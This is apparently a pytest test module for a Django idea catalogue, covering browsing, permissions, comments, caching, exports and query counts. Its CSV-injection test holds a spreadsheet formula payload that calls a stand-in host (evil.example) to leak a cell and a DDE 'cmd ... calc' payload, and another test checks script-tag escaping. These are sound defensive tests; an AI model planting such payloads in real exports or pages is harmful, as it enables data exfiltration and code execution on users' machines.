"""The public catalogue pages through their URLs: pages, HTMX fragments, who may see what,
support and comments, exports and query counts."""

import csv
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.translation import gettext

from catalogue.forms import IdeaFilterForm
from catalogue.models import ActorType, Comment, Endorsement, Idea, IdeaLink, WelfareArea
from catalogue.search import stems
from catalogue.views import EXPORT_COLUMNS
from tests.catalogue.factories import (
    HOSTILE,
    CommentFactory,
    EndorsementFactory,
    IdeaFactory,
    InternalNoteFactory,
    StatusChangeFactory,
)
from tests.meetings.factories import MeetingFactory, WorkshopGroupFactory

HTMX = {"HX-Request": "true"}
ESCAPED = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
S = Idea.Status


def as_user(client, user):
    client.logout()
    if user is not None and user.is_authenticated:
        client.force_login(user)
    return client


def get(client, url, **kwargs):
    response = client.get(url, **kwargs)
    return response, response.content.decode()


def count_queries(client, url, **kwargs):
    with CaptureQueriesContext(connection) as context:
        response = client.get(url, **kwargs)
        if response.streaming:  # the rows are read as they are sent
            response.getvalue()
    assert response.status_code == 200
    return len(context.captured_queries)


def export(client, query=""):
    response = client.get(reverse("catalogue:export_json") + query)
    assert response.status_code == 200
    assert response.streaming
    return json.loads(response.getvalue())


@pytest.fixture
def published(submitter):
    idea = IdeaFactory(
        title="Digitalt borgerpanel",
        summary="Borgere giver råd om kommunens digitale løsninger.",
        status=S.PUBLISHED,
        submitted_by=submitter,
        actors=["borgere", "politikere"],
        dis_dimensions=["digitalisation"],
    )
    idea.tags.set(["borgerinddragelse"])
    return idea


@pytest.fixture
def statuses(submitter):
    """One idea per status, all by ``submitter``: title = status."""
    return {
        status: IdeaFactory(title=f"Idé-{status}", status=status, submitted_by=submitter)
        for status in S.values
    }


# Browse ----------------------------------------------------------------------------------


def test_browse_page_and_fragment(client, published):
    url = reverse("catalogue:index")
    response, html = get(client, url)
    assert response.status_code == 200
    assert "<html" in html
    assert 'id="idea-results"' in html and 'id="idea-count"' in html
    assert "Digitalt borgerpanel" in html
    assert reverse("catalogue:idea", args=[published.pk]) in html
    assert 'hx-push-url="true"' in html and 'role="search"' in html
    assert reverse("catalogue:export_csv") in html and reverse("catalogue:export_json") in html
    # Facet counts of the result set.
    assert 'id="count-id_area_0"' in html

    response, html = get(client, url, query_params={"q": "borgerne"}, headers=HTMX)
    assert response.status_code == 200
    assert "<html" not in html
    assert 'id="idea-results"' in html
    assert "Digitalt borgerpanel" in html
    # The count and the facet counts follow out of band.
    assert 'id="idea-count" role="status" hx-swap-oob="true"' in html
    assert 'hx-swap-oob="true">(' in html
    assert "HX-Request" in response["Vary"]


def test_facet_counts_say_what_ticking_a_value_would_give(client, published, secretariat):
    """Within a filter the values are alternatives (OR), so a value's count is what ticking it
    adds under the other filters, not its count within the current result (which is 0 for every
    other welfare area once one is ticked)."""
    children = WelfareArea.objects.get(slug="boern-og-unge")
    for number in range(3):
        IdeaFactory(
            title=f"Skolehave {number}",
            status=S.PUBLISHED,
            welfare_area=children,
            actors=["foreninger"] if number else ["borgere"],
        )
    IdeaFactory(title="Kladde", status=S.SUBMITTED, welfare_area=children)
    url = reverse("catalogue:index")

    areas = list(WelfareArea.objects.values_list("slug", flat=True))
    actors = list(ActorType.objects.values_list("slug", flat=True))

    def count(html, field, value, values):
        """The count shown beside ``value`` of the checkboxes ``field`` (ids by position)."""
        found = re.search(rf'id="count-id_{field}_{values.index(value)}"[^>]*>\((\d+)\)', html)
        return int(found[1])

    html = get(client, url, query_params={"area": "aeldre"})[1]
    assert count(html, "area", "boern-og-unge", areas) == 3  # ticking it adds three
    assert count(html, "area", "aeldre", areas) == 1
    # Another filter narrows the counts: among the associations' ideas.
    html = get(client, url, query_params={"area": "aeldre", "actor": "foreninger"})[1]
    assert count(html, "area", "boern-og-unge", areas) == 2
    assert count(html, "area", "aeldre", areas) == 0
    assert count(html, "actor", "borgere", actors) == 1  # under the area filter only
    # The secretariat's status filter counts the statuses it could add.
    client.force_login(secretariat)
    html = get(client, url)[1]
    statuses = [value for value, _label in IdeaFilterForm.base_fields["status"].choices]
    assert count(html, "status", "submitted", statuses) == 1


def test_browse_history_restore_gets_the_whole_page(client, published):
    headers = {**HTMX, "HX-History-Restore-Request": "true"}
    assert "<html" in get(client, reverse("catalogue:index"), headers=headers)[1]


def test_browse_filters_and_search(client, published):
    IdeaFactory(
        title="Grønne skolegårde",
        summary="Elever og forældre bygger skolegården om.",
        status=S.PUBLISHED,
        welfare_area=WelfareArea.objects.get(slug="boern-og-unge"),
        actors=["foreninger"],
        dis_dimensions=["co_creation"],
    )
    url = reverse("catalogue:index")

    def titles(**params):
        html = get(client, url, query_params=params, headers=HTMX)[1]
        return {title for title in ("Digitalt borgerpanel", "Grønne skolegårde") if title in html}

    assert titles() == {"Digitalt borgerpanel", "Grønne skolegårde"}
    assert titles(area="aeldre") == {"Digitalt borgerpanel"}
    assert titles(area=["aeldre", "boern-og-unge"]) == {"Digitalt borgerpanel", "Grønne skolegårde"}
    assert titles(actor="foreninger") == {"Grønne skolegårde"}
    assert titles(actor="borgere", area="boern-og-unge") == set()
    assert titles(dis="digitalisation") == {"Digitalt borgerpanel"}
    assert titles(tag="borgerinddragelse") == {"Digitalt borgerpanel"}
    assert titles(q="borgerne") == {"Digitalt borgerpanel"}
    assert titles(q="skole") == {"Grønne skolegårde"}
    # Invalid values are ignored, not errors.
    assert titles(area="findes-ikke", sort="bogus", page="x") == {
        "Digitalt borgerpanel",
        "Grønne skolegårde",
    }


def test_browse_sorts_and_counts(client, published):
    IdeaFactory(title="Aaa først", status=S.PUBLISHED)
    EndorsementFactory(idea=published)
    url = reverse("catalogue:index")
    html = get(client, url, query_params={"sort": "title"})[1]
    assert html.index("Aaa først") < html.index("Digitalt borgerpanel")
    html = get(client, url, query_params={"sort": "supported"})[1]
    assert html.index("Digitalt borgerpanel") < html.index("Aaa først")
    assert "2 idéer" in html or "2 ideas" in html
    # Facet counts: Ældre has both ideas, Borgere both (factory default) …
    assert 'id="count-id_area_0">(2)' in html


def test_browse_paginates_with_querystring(client, db):
    for number in range(23):
        IdeaFactory(title=f"Idé nummer {number:02d}", status=S.PUBLISHED)
    html = get(client, reverse("catalogue:index"), query_params={"area": "aeldre"})[1]
    assert html.count('class="idea-card"') == 20
    assert "?area=aeldre&amp;page=2" in html
    html = get(client, reverse("catalogue:index"), query_params={"area": "aeldre", "page": 2})[1]
    assert html.count('class="idea-card"') == 3


def test_status_filter_only_for_the_secretariat(client, statuses, readers):
    url = reverse("catalogue:index")
    for name, user in readers.items():
        html = get(as_user(client, user), url, query_params={"status": "submitted"})[1]
        if name == "secretariat":
            assert 'name="status"' in html
            assert "Idé-submitted" in html, name
            assert "Idé-published" not in html
        else:
            assert 'name="status"' not in html, name
            assert "Idé-submitted" not in html, name
            assert "Idé-published" in html, name


@pytest.mark.parametrize("name", ["anonymous", "submitter", "other_staff", "member", "secretariat"])
def test_drafts_and_unpublished_never_listed_or_exported(client, statuses, readers, name):
    user = readers[name]
    as_user(client, user)
    public = {f"Idé-{status}" for status in ("published", "selected", "parked")}
    html = get(client, reverse("catalogue:index"))[1]
    listed = {title for title in (f"Idé-{s}" for s in S.values) if f">{title}<" in html}
    assert listed == public, name
    assert {row["title"] for row in export(client)["ideas"]} == public, name
    # With every status asked for: only the secretariat gets more, and never a draft.
    query = "?" + "&".join(f"status={status}" for status in S.values if status != "draft")
    exported = {row["title"] for row in export(client, query)["ideas"]}
    exported |= {row["title"] for row in export(client, "?status=draft")["ideas"]}
    if name == "secretariat":
        assert exported == {f"Idé-{s}" for s in S.values if s != "draft"}
    else:
        assert exported == public, name
    assert "Idé-draft" not in exported


# Detail ----------------------------------------------------------------------------------


def test_detail_page_and_fragment(client, published, member):
    meeting = MeetingFactory(title="Teknologilaboratorium")
    published.origin = WorkshopGroupFactory(meeting=meeting, name="Politikergruppen")
    published.description = "Første afsnit.\n\nAndet afsnit."
    published.save()
    linked = IdeaFactory(title="Borgerbudget", status=S.PUBLISHED)
    hidden = IdeaFactory(title="Skjult kladde", status=S.DRAFT)
    IdeaLink.objects.create(from_idea=published, to_idea=linked, kind="related")
    IdeaLink.objects.create(from_idea=hidden, to_idea=published, kind="part_of")
    CommentFactory(idea=published, text="Første kommentar")
    url = reverse("catalogue:idea", args=[published.pk])
    response, html = get(client, url)
    assert response.status_code == 200
    assert "<html" in html and 'id="idea-detail"' in html
    assert "Digitalt borgerpanel" in html and "Andet afsnit." in html
    assert "Politikergruppen" in html
    assert "Borgerbudget" in html and "Skjult kladde" not in html
    assert "Første kommentar" in html
    assert 'id="idea-support"' in html and 'id="idea-comments"' in html
    assert reverse("login") in html  # "log in to support"
    assert f'action="{reverse("catalogue:endorse", args=[published.pk])}"' not in html

    response, html = get(client, url, headers=HTMX)
    assert 'id="idea-detail"' in html and "<html" not in html

    html = get(as_user(client, member), url)[1]
    assert f'action="{reverse("catalogue:endorse", args=[published.pk])}"' in html
    assert f'action="{reverse("catalogue:comment", args=[published.pk])}"' in html


def test_detail_404_for_ideas_not_visible(client, statuses, readers):
    for name, user in readers.items():
        as_user(client, user)
        for status, idea in statuses.items():
            code = client.get(reverse("catalogue:idea", args=[idea.pk])).status_code
            visible = Idea.objects.visible_to(user).filter(pk=idea.pk).exists()
            assert code == (200 if visible else 404), (name, status)
            if name == "anonymous" and status not in ("published", "selected", "parked"):
                assert code == 404


def test_internal_notes_never_and_history_only_for_submitter_and_secretariat(
    client, published, readers
):
    InternalNoteFactory(idea=published)
    StatusChangeFactory(
        idea=published,
        from_status=S.UNDER_REVIEW,
        to_status=S.PUBLISHED,
        answer="SVAR-TIL-INDSENDER-9921",
    )
    url = reverse("catalogue:idea", args=[published.pk])
    for name, user in readers.items():
        html = get(as_user(client, user), url)[1]
        assert "HEMMELIG-NOTE-4471" not in html, name
        assert ("SVAR-TIL-INDSENDER-9921" in html) is (name in ("submitter", "secretariat")), name


# Support ---------------------------------------------------------------------------------


def test_endorse_once_then_withdraw(client, published, member):
    url = reverse("catalogue:endorse", args=[published.pk])
    as_user(client, member)
    response = client.post(url, headers=HTMX)
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="idea-support"' in html and "<html" not in html
    assert Endorsement.objects.filter(idea=published).count() == 1
    # A second support is a no-op with a message.
    response = client.post(url, headers=HTMX)
    assert response.status_code == 422
    assert gettext("You already support this idea.") in response.content.decode()
    assert Endorsement.objects.filter(idea=published).count() == 1
    # Without HTMX: redirect back with a message.
    response = client.post(url, {"action": "withdraw"})
    assert response.status_code == 302
    assert Endorsement.objects.filter(idea=published).count() == 0


def test_endorse_own_idea_refused(client, published, submitter):
    as_user(client, submitter)
    response = client.post(reverse("catalogue:endorse", args=[published.pk]), follow=True)
    assert gettext("You cannot support your own idea.") in response.content.decode()
    assert not Endorsement.objects.exists()


def test_anonymous_post_goes_to_login(client, published):
    for name in ("catalogue:endorse", "catalogue:comment"):
        response = client.post(reverse(name, args=[published.pk]), {"text": "Hej"})
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))
        assert client.post(reverse(name, args=[published.pk]), headers=HTMX).status_code == 403
    assert not Endorsement.objects.exists() and not Comment.objects.exists()


def test_cannot_support_an_idea_not_visible(client, statuses, other_staff):
    as_user(client, other_staff)
    response = client.post(reverse("catalogue:endorse", args=[statuses["submitted"].pk]))
    assert response.status_code == 404
    assert not Endorsement.objects.exists()


# Comments --------------------------------------------------------------------------------


def test_comment_and_reply(client, published, member):
    url = reverse("catalogue:comment", args=[published.pk])
    as_user(client, member)
    response = client.post(url, {"text": "Godt forslag!"}, headers=HTMX)
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="idea-comments"' in html and "Godt forslag!" in html and "<html" not in html
    first = Comment.objects.get()
    response = client.post(url, {"text": "Enig.", "parent": first.pk})
    assert response.status_code == 302
    reply = Comment.objects.exclude(pk=first.pk).get()
    assert reply.parent == first


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "Write a comment before you send it."),
        ("   ", "Write a comment before you send it."),
        ("x" * 5001, "En kommentar må højst være 5000 tegn lang"),
    ],
)
def test_invalid_comment_is_400_with_message_and_nothing_saved(
    client, published, member, text, message
):
    url = reverse("catalogue:comment", args=[published.pk])
    as_user(client, member)
    response = client.post(url, {"text": text}, headers=HTMX)
    assert response.status_code == 422
    html = response.content.decode()
    assert 'id="idea-comments"' in html and "<html" not in html
    assert gettext(message)[:20] in html or message[:20] in html
    response = client.post(url, {"text": text})
    assert response.status_code == 422
    assert "<html" in response.content.decode()
    assert not Comment.objects.exists()


def test_comment_on_an_unpublished_idea_is_refused(client, statuses, submitter):
    as_user(client, submitter)
    url = reverse("catalogue:comment", args=[statuses["submitted"].pk])
    response = client.post(url, {"text": "Hej"}, headers=HTMX)
    assert response.status_code == 422
    assert not Comment.objects.exists()


def test_reply_to_a_comment_of_another_idea_is_refused(client, published, member):
    foreign = CommentFactory(idea=IdeaFactory(status=S.PUBLISHED))
    as_user(client, member)
    url = reverse("catalogue:comment", args=[published.pk])
    response = client.post(url, {"text": "Hej", "parent": foreign.pk}, headers=HTMX)
    assert response.status_code == 422
    assert Comment.objects.count() == 1


# Matrix ----------------------------------------------------------------------------------


def test_matrix_page_and_fragment(client, published, statuses):
    url = reverse("catalogue:matrix")
    response, html = get(client, url)
    assert response.status_code == 200
    assert "<html" in html and 'id="idea-matrix"' in html
    assert '<th scope="col">Ældre</th>' in html and '<th scope="row">Borgere</th>' in html
    # Published "Digitalt borgerpanel" (borgere, politikere) + 3 public status ideas (borgere).
    link = f"{reverse('catalogue:index')}?actor=borgere&amp;area=aeldre"
    assert f'<a href="{link}"' in html
    borgere_aeldre = html.split(f'<a href="{link}"')[1]
    assert borgere_aeldre.split(">")[1].startswith("4<span")
    assert "?actor=politikere&amp;area=aeldre" in html
    response, html = get(client, url, headers=HTMX)
    assert 'id="idea-matrix"' in html and "<html" not in html


def matrix_cell(client, actor, area="aeldre"):
    html = client.get(reverse("catalogue:matrix"), headers=HTMX).content.decode()
    found = re.search(rf'\?actor={actor}&amp;area={area}">(\d+)<span', html)
    return int(found[1]) if found else 0


def test_the_cached_matrix_is_never_stale_nor_shared_across_audiences(
    client, published, secretariat, submitter
):
    """The matrix is cached per audience; a change of status through a URL shows at once, and
    what the secretariat reads first never reaches the public."""
    waiting = IdeaFactory(status=S.SUBMITTED, submitted_by=submitter, actors=["politikere"])
    client.force_login(secretariat)
    assert matrix_cell(client, "politikere") == 1  # the secretariat's read fills its entry
    anonymous = client.__class__()
    assert matrix_cell(anonymous, "politikere") == 1
    assert matrix_cell(anonymous, "politikere") == 1  # read again, from the cache
    response = client.post(
        reverse("catalogue:curate_status", args=[waiting.pk]), {"to_status": S.PUBLISHED}
    )
    assert response.status_code == 302
    assert matrix_cell(anonymous, "politikere") == 2
    assert matrix_cell(client, "politikere") == 2
    response = client.post(
        reverse("catalogue:curate_status", args=[published.pk]),
        {"to_status": S.PARKED, "revisit_on": "2031-03-01"},
    )
    assert response.status_code == 302
    assert matrix_cell(anonymous, "politikere") == 2  # parked ideas stay in the catalogue
    published.actor_types.remove(ActorType.objects.get(slug="politikere"))
    assert matrix_cell(anonymous, "politikere") == 1  # a change of the links too


def test_the_matrix_read_again_makes_no_counts(client, published):
    client.get(reverse("catalogue:matrix"))
    with CaptureQueriesContext(connection) as again:
        assert client.get(reverse("catalogue:matrix")).status_code == 200
    assert not any("catalogue_idea" in query["sql"] for query in again.captured_queries)


# Exports ---------------------------------------------------------------------------------


def test_export_csv_is_the_filtered_set(client, published):
    IdeaFactory(
        title="Andet", status=S.PUBLISHED, welfare_area=WelfareArea.objects.get(slug="sundhed")
    )
    response = client.get(reverse("catalogue:export_csv"), {"area": "aeldre"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.streaming
    body = response.getvalue().decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == EXPORT_COLUMNS
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["title"] == "Digitalt borgerpanel"
    assert row["actor_types"] == "Politikere, Borgere"
    assert row["tags"] == "borgerinddragelse"
    assert row["url"].endswith(reverse("catalogue:idea", args=[published.pk]))


def test_export_json_columns_and_search(client, published):
    EndorsementFactory(idea=published)
    data = export(client, "?q=borgerne")
    assert data["count"] == 1
    [row] = data["ideas"]
    assert list(row) == EXPORT_COLUMNS
    assert row["endorsements"] == 1 and row["comments"] == 0
    assert row["dis_dimensions"] == ["digitalisation"]
    assert row["welfare_area"] == "Ældre"


def csv_rows(client, query=""):
    body = client.get(reverse("catalogue:export_csv") + query).getvalue().decode("utf-8")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_excel_reads_as_formulas_start_with_a_quote(client, db, start):
    """OWASP's CSV injection advice: a cell that starts with = + - @ tab or carriage return is
    prefixed with a single quote, so that a spreadsheet shows it as text; JSON keeps it raw."""
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klik")'
    idea = IdeaFactory(title=formula, summary=f"{start}1+1", status=S.PUBLISHED, actors=["borgere"])
    idea.tags.set([f"{start}cmd|' /C calc'!A0"])
    [row] = csv_rows(client)
    assert row["title"] == "'" + formula
    assert row["summary"] == f"'{start}1+1"
    assert row["tags"] == f"'{start}cmd|' /C calc'!A0"
    [raw] = export(client)["ideas"]
    assert (raw["title"], raw["summary"]) == (formula, f"{start}1+1")
    assert raw["tags"] == [f"{start}cmd|' /C calc'!A0"]


def test_csv_cells_with_formula_characters_inside_stay_as_they_are(client, db):
    IdeaFactory(title="Borgere + frivillige = samskabelse", summary="-", status=S.PUBLISHED)
    [row] = csv_rows(client)
    assert row["title"] == "Borgere + frivillige = samskabelse"
    assert row["summary"] == "'-"
    assert row["endorsements"] == "0" and row["id"].isdigit()


@pytest.mark.parametrize("name", ["catalogue:export_csv", "catalogue:export_json"])
def test_exports_stream_a_chunk_at_a_time_with_every_row_once(client, db, monkeypatch, name):
    """The ideas are read and sent a chunk at a time (a piece per chunk, never the whole file
    at once); every idea is in it exactly once, in the page's order, across the chunks'
    seams."""
    monkeypatch.setattr("catalogue.views.EXPORT_CHUNK_SIZE", 4)
    ideas = [IdeaFactory(title=f"Idé {n:02}", status=S.PUBLISHED) for n in range(11)]
    response = client.get(reverse(name) + "?sort=title")
    assert response.streaming
    pieces = list(response.streaming_content)
    assert len(pieces) >= 3
    body = b"".join(pieces).decode("utf-8")
    if name.endswith("csv"):
        rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))[1:]
        titles, ids = [row[1] for row in rows], [int(row[0]) for row in rows]
    else:
        data = json.loads(body)
        assert data["count"] == 11
        titles = [row["title"] for row in data["ideas"]]
        ids = [row["id"] for row in data["ideas"]]
    assert titles == [f"Idé {n:02}" for n in range(11)]
    assert ids == [idea.pk for idea in ideas]


@pytest.mark.parametrize("name", ["catalogue:export_csv", "catalogue:export_json"])
def test_export_queries_do_not_grow_with_the_chunks(client, member, monkeypatch, name):
    """Lists, tags and origins come with the ideas' own query: as many queries for one chunk
    as for many."""
    monkeypatch.setattr("catalogue.views.EXPORT_CHUNK_SIZE", 4)
    as_user(client, member)
    _many(3)
    few = count_queries(client, reverse(name))
    _many(27)
    assert count_queries(client, reverse(name)) == few


def test_an_export_of_nothing_is_still_a_whole_file(client, db):
    assert export(client) == {"ideas": [], "count": 0}
    assert csv_rows(client) == []


# Hostile input ---------------------------------------------------------------------------


def test_hostile_text_is_shown_as_text(client, member):
    idea = IdeaFactory(hostile=True, status=S.PUBLISHED)
    idea.tags.set([HOSTILE])
    CommentFactory(idea=idea, text=HOSTILE)
    for url in (
        reverse("catalogue:index"),
        reverse("catalogue:index") + "?q=" + HOSTILE,
        reverse("catalogue:idea", args=[idea.pk]),
        reverse("catalogue:matrix"),
    ):
        html = get(as_user(client, member), url)[1]
        assert HOSTILE not in html, url
        assert "<img src=x" not in html, url
    html = get(client, reverse("catalogue:idea", args=[idea.pk]))[1]
    assert ESCAPED in html
    data = export(client)
    assert data["ideas"][0]["title"] == f"Idé {HOSTILE}"
    response = client.get(reverse("catalogue:export_json"))
    assert response["Content-Type"].startswith("application/json")
    response.close()


# Query counts ----------------------------------------------------------------------------


def _many(number):
    actors = list(ActorType.objects.all()[:3])
    for index in range(number):
        idea = IdeaFactory(
            status=S.PUBLISHED,
            dis_dimensions=["innovation"],
            actors=[actor.slug for actor in actors],
        )
        idea.tags.set([f"mærke{index % 4}"])
        EndorsementFactory(idea=idea)
        CommentFactory(idea=idea)


@pytest.mark.parametrize(
    ("url", "query"),
    [
        ("catalogue:index", ""),
        ("catalogue:index", "?q=borgerne&area=aeldre&actor=borgere&sort=supported"),
        ("catalogue:matrix", ""),
        ("catalogue:export_csv", ""),
        ("catalogue:export_json", "?dis=innovation"),
    ],
)
def test_query_count_does_not_grow_with_the_number_of_ideas(client, member, url, query):
    as_user(client, member)
    full = reverse(url) + query
    stems("borgerne")  # a word is stemmed by the database once per process
    _many(5)
    few = count_queries(client, full)
    _many(95)
    many = count_queries(client, full)
    assert few == many, (url, few, many)
